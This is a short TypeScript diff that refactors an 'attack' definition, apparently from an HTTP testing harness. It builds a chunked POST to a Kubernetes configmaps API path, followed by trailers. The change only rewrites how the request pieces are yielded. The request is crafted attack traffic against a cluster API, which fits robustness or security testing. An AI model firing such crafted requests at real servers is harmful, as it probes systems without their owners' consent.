@@ -13,14 +13,8 @@ export const attack: Attack = {
   run: (target, signal) => {
     const post = head1(target, 'POST /api/v1/namespaces/default/configmaps', 'Transfer-Encoding: chunked')
     return attackHttp1(target, signal, {}, () => {
-      let begun = false
-      return {
-        next() {
-          if (begun) return TRAILERS
-          begun = true
-          return Buffer.concat([post, Buffer.from('2\r\n{}\r\n0\r\n')])
-        },
-      }
+      const pieces = [Buffer.concat([post, Buffer.from('2\r\n{}\r\n0\r\n')])]
+      return { next: () => pieces.shift() ?? TRAILERS }
     })
   },
 }
